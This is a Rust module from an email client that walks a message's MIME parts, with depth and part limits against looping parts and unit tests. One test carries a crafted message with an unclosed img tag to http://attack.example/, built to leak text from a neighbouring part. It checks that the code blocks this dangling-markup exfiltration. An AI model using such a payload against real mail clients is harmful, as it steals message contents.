//! The walk through a message's parts: what is read, what is saved (RFC 2046, RFC 2183).
//!
//! The parser gives parts by number, and a crafted message has made it give circles
//! (CVE-2026-26312): every walk has a depth bound, a budget of parts, and a set of those visited.
//! Parts are never joined: what stands between two of them can't be closed by a third (row U08).

use std::collections::HashSet;

use jiff::tz::TimeZone;
use mail_parser::{Message, MessagePart, MimeHeaders as _, PartType};
use postroad_calendar::Invitation;

use super::flowed::{self, DelSp};
use super::{Block, BlockKind, Depth, View, html, links};
use crate::limits;

/// Something in a message that can be saved.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Part {
    /// The name that the message gives it.
    pub name: Option<String>,
    /// What the message says it is.
    pub media_type: String,
    /// Its octets, decoded.
    pub content: Vec<u8>,
}

/// The text that is read, its links, and what can be saved.
pub(super) fn walk(message: &Message<'_>, depth: Depth) -> View {
    let (budget, authors) = (limits::PARTS_MAX, authors(message));
    let mut walk = Walk { depth, budget, authors, seen: View::default() };
    walk.message(message, 0);
    let Walk { mut seen, .. } = walk;
    // Behind those of pages, which have their numbers in the text.
    for block in seen.blocks.iter().filter(|block| block.kind != BlockKind::Links) {
        let more = limits::LINKS_MAX.saturating_sub(seen.links.len());
        if matches!(block.kind, BlockKind::Plain | BlockKind::Flowed) {
            seen.links.extend(links::in_text(&block.text, more));
        }
    }
    seen
}

struct Walk {
    depth: Depth,
    /// Parts that may still be visited, over all enclosed messages.
    budget: usize,
    /// Who wrote the message that is walked through.
    authors: Vec<String>,
    seen: View,
}

/// The addresses in From.
fn authors(message: &Message<'_>) -> Vec<String> {
    let from = super::summary(message, str::to_owned).from;
    from.into_iter().filter_map(|person| person.address).collect()
}

impl Walk {
    fn message(&mut self, message: &Message<'_>, level: usize) {
        self.part(message, 0, level, &mut HashSet::new());
    }

    fn part(&mut self, message: &Message<'_>, id: u32, level: usize, visited: &mut HashSet<u32>) {
        let Some(part) = message.part(id) else { return };
        if !visited.insert(id) {
            return;
        }
        if level >= limits::PART_DEPTH_MAX || self.budget == 0 {
            return self.block(BlockKind::Ours, "[what is nested deeper is not shown]".into());
        }
        self.budget -= 1;
        match &part.body {
            PartType::Multipart(children) if is_alternative(part) => {
                self.alternative(message, children, level, visited);
            }
            PartType::Multipart(children) => {
                for child in children {
                    self.part(message, *child, level + 1, visited);
                }
            }
            PartType::Text(text) if is_to_be_read(part) => {
                self.plain(part, text);
                // It is read by us, too (`crate::bounce`).
                if is_delivery_status(part) {
                    self.save(part);
                }
            }
            PartType::Html(text) if is_to_be_read(part) => match self.lay_out(text) {
                Some(page) => self.page(page),
                None => self.save(part),
            },
            PartType::Message(enclosed) => {
                self.enclosed(enclosed, level);
                self.save(part);
            }
            PartType::Text(text) if is_calendar(part) => {
                self.calendar(text);
                self.save(part);
            }
            PartType::Text(_)
            | PartType::Html(_)
            | PartType::Binary(_)
            | PartType::InlineBinary(_) => {
                self.save(part);
            }
        }
    }

    /// One of several versions: plain text where there is some, else what comes first of the others.
    fn alternative(
        &mut self,
        message: &Message<'_>,
        children: &[u32],
        level: usize,
        visited: &mut HashSet<u32>,
    ) {
        let rank = |id: &u32| match message.part(*id).map(|part| (&part.body, is_to_be_read(part)))
        {
            Some((PartType::Text(text), true)) if !text.trim().is_empty() => 3,
            Some((PartType::Html(_), true)) => 2,
            Some((PartType::Multipart(_), _)) => 1,
            Some(_) | None => 0,
        };
        // The first of the best: max_by_key would take the last.
        let best = children.iter().copied().rev().max_by_key(rank);
        if let Some(best) = best {
            self.part(message, best, level + 1, visited);
        }
        // An invitation beside the text can still be saved.
        for id in children.iter().filter(|id| Some(**id) != best && rank(id) == 0) {
            self.part(message, *id, level + 1, visited);
        }
    }

    /// What a calendar asks to, in words (RFC 6047).
    fn calendar(&mut self, text: &str) {
        if self.seen.invitations.len() >= limits::INVITATIONS_MAX {
            return;
        }
        // A fault of its parser's costs the words, and not the letter.
        let authors: Vec<&str> = self.authors.iter().map(String::as_str).collect();
        let read = std::panic::catch_unwind(|| {
            let invitation = Invitation::read(text)?;
            Some((invitation.words(&TimeZone::system(), "", &authors), invitation))
        });
        if let Some((words, invitation)) = read.ok().flatten() {
            self.block(BlockKind::Event, words.join("\n"));
            self.seen.invitations.push(invitation);
        }
    }

    fn enclosed(&mut self, message: &Message<'_>, level: usize) {
        let summary = super::summary(message, str::to_owned);
        let from: Vec<String> = summary.from.iter().map(super::page::person).collect();
        let head = format!("---- {}: {}", from.join(", "), summary.subject);
        self.block(BlockKind::Ours, head);
        let outer = std::mem::replace(&mut self.authors, authors(message));
        self.message(message, level + 1);
        self.authors = outer;
    }

    fn plain(&mut self, part: &MessagePart<'_>, text: &str) {
        match flow(part) {
            Some(del_sp) => self.block(BlockKind::Flowed, flowed::unfold(text, del_sp)),
            None => self.block(BlockKind::Plain, text.to_owned()),
        }
    }

    fn lay_out(&self, page: &str) -> Option<html::Page> {
        match self.depth {
            Depth::Full => html::to_text(page, self.seen.links.len() + 1),
            Depth::Parts => None,
        }
    }

    fn page(&mut self, page: html::Page) {
        let first = self.seen.links.len() + 1;
        self.block(BlockKind::Html, page.text);
        let lines = page.links.iter().enumerate().map(|(place, link)| {
            let warning = link.warning().map(|words| format!("  ({words})")).unwrap_or_default();
            format!("[{}] {}{warning}\n", first + place, link.target)
        });
        let lines: String = lines.collect();
        if !lines.is_empty() {
            self.block(BlockKind::Links, lines);
        }
        match page.pictures {
            0 => {}
            1 => self.block(BlockKind::Ours, "[1 picture is elsewhere: not fetched]".into()),
            n => self.block(BlockKind::Ours, format!("[{n} pictures are elsewhere: not fetched]")),
        }
        self.seen.links.extend(page.links);
    }

    fn block(&mut self, kind: BlockKind, text: String) {
        self.seen.blocks.push(Block { kind, text });
    }

    fn save(&mut self, part: &MessagePart<'_>) {
        let media_type = part.content_type().map_or_else(
            || "application/octet-stream".to_owned(),
            |kind| format!("{}/{}", kind.ctype(), kind.subtype().unwrap_or("octet-stream")),
        );
        self.seen.attachments.push(Part {
            name: part.attachment_name().map(str::to_owned),
            media_type,
            content: part.contents().to_vec(),
        });
    }
}

fn is_calendar(part: &MessagePart<'_>) -> bool {
    let subtype = part.content_type().and_then(|kind| kind.subtype());
    subtype.is_some_and(|subtype| subtype.eq_ignore_ascii_case("calendar"))
}

/// Whether lines of a text go on in the next one (RFC 3676 §4).
fn flow(part: &MessagePart<'_>) -> Option<DelSp> {
    let kind = part.content_type()?;
    let is = |name: &str, value: &str| {
        kind.attribute(name).is_some_and(|found| found.trim().eq_ignore_ascii_case(value))
    };
    let is_plain = kind.subtype().is_some_and(|subtype| subtype.eq_ignore_ascii_case("plain"));
    let del_sp = if is("delsp", "yes") { DelSp::Yes } else { DelSp::No };
    (is_plain && is("format", "flowed")).then_some(del_sp)
}

fn is_alternative(part: &MessagePart<'_>) -> bool {
    part.content_type()
        .and_then(|kind| kind.subtype())
        .is_some_and(|subtype| subtype.eq_ignore_ascii_case("alternative"))
}

/// RFC 3464 §2.1, RFC 6533 §3
fn is_delivery_status(part: &MessagePart<'_>) -> bool {
    let subtype = part.content_type().and_then(|kind| kind.subtype()).unwrap_or_default();
    ["delivery-status", "global-delivery-status"].iter().any(|s| subtype.eq_ignore_ascii_case(s))
}

/// Text that isn't sent as a file (RFC 2183 §2).
fn is_to_be_read(part: &MessagePart<'_>) -> bool {
    let attached =
        part.content_disposition().is_some_and(|disposition| disposition.is_attachment());
    // Text that programs read, such as an invitation, is a file too.
    let for_programs = part.content_type().and_then(|kind| kind.subtype()).is_some_and(|subtype| {
        ["calendar", "csv", "vcard", "rfc822-headers"]
            .iter()
            .any(|s| subtype.eq_ignore_ascii_case(s))
    });
    !attached && !for_programs
}

#[cfg(test)]
mod tests {
    use super::super::View;

    #[track_caller]
    fn check(message: &str, text: &str, names: &[&str]) {
        let view = View::of(message.replace('\n', "\r\n").as_bytes());
        assert_eq!(view.text().replace("\r\n", "\n").trim_end(), text);
        let saved: Vec<&str> =
            view.attachments.iter().map(|part| part.name.as_deref().unwrap_or("-")).collect();
        assert_eq!(saved, names);
    }

    #[test]
    fn a_plain_message() {
        check("Subject: s\n\nHello\n", "Hello", &[]);
    }

    #[test]
    fn of_alternatives_the_plain_one_is_read() {
        check(
            "Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>H</p>\n\
             --b\nContent-Type: text/plain\n\nplain\n--b\nContent-Type: text/calendar; name=i.ics\n\nX\n--b--\n",
            "plain",
            &["i.ics"],
        );
    }

    #[test]
    fn html_alone_is_laid_out() {
        check("Content-Type: text/html\n\n<p>Hello <b>you</b></p>\n", "Hello **you**", &[]);
    }

    #[test]
    fn files_and_enclosed_messages_can_be_saved() {
        check(
            "Content-Type: multipart/mixed; boundary=b\n\n--b\n\ntext\n--b\n\
             Content-Type: image/png; name=a.png\nContent-Transfer-Encoding: base64\n\naGk=\n--b\n\
             Content-Type: message/rfc822\n\nFrom: x@y.example\nSubject: inner\n\ninside\n--b--\n",
            "text\n\n---- x@y.example: inner\n\ninside",
            &["a.png", "-"],
        );
    }

    #[test]
    fn u08_parts_are_never_joined() {
        let view = View::of(
            b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
              <img src=\"http://attack.example/\r\n--b\r\n\r\nsecret\r\n--b\r\n\
              Content-Type: text/html\r\n\r\n\">\r\n--b--\r\n",
        );
        assert!(view.text().contains("secret"), "{}", view.text());
        assert!(!view.text().contains("attack.example/\r\nsecret"), "{}", view.text());
    }
}
